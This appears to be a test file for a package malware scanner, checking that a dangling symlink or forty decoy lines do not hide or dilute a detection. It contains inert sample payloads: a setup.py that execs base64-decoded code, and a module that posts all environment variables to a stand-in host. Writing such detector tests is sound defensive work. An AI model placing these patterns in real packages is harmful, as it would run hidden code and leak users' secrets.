/** Ways around a scanner that need more than one archive to show. All payloads are inert. */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { suite, test } from 'node:test';
import { scanBytes, scanDirectory } from '../../src/pipeline.ts';
import { zip } from '../support/zip-writer.ts';

const DROPPER = `import base64
from setuptools import setup
exec(base64.b64decode("cHJpbnQoMSk="))
setup(name="example", version="1.0", packages=["example"])
`;

suite('evasions of a scan', () => {
  test('a dangling link in a directory hides nothing beside it', () => {
    const folder = mkdtempSync(join(tmpdir(), 'lazaret-evasion-'));
    try {
      mkdirSync(join(folder, 'example'));
      writeFileSync(join(folder, 'example/__init__.py'), '');
      writeFileSync(join(folder, 'setup.py'), DROPPER);
      symlinkSync('/nowhere/at/all', join(folder, 'example/missing.py'));
      const result = scanDirectory(folder, 'example-1.0', folder);
      assert.equal(result.verdict, 'malicious');
      const places = result.findings.map(({ rule, path, line }) => `${rule} ${path}:${line}`);
      assert.ok(places.includes('execution/decode-then-exec setup.py:3'), places.join('\n'));
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  test('decoys beside a payload never lower its score', () => {
    const send = 'import os, requests\nrequests.post("https://collect.invalid/e", json=dict(os.environ))\n';
    const decoys = Array.from({ length: 40 }, (_, i) => `NAME_${i} = "config/.env.${i}"\n`).join('');
    const metadata = {
      name: 'example-1.0.dist-info/METADATA',
      data: 'Metadata-Version: 2.1\nName: example\nVersion: 1.0\n',
    };
    const scan = (extra: string) =>
      scanBytes(
        'example',
        'example-1.0-py3-none-any.whl',
        zip([
          { name: 'example/__init__.py', data: send },
          { name: 'example/names.py', data: extra },
          metadata,
        ]),
      );
    const plain = scan('');
    const diluted = scan(decoys);
    assert.equal(plain.verdict, 'malicious');
    assert.equal(diluted.verdict, 'malicious');
    assert.ok(diluted.score >= plain.score, `${diluted.score} < ${plain.score}`);
  });
});
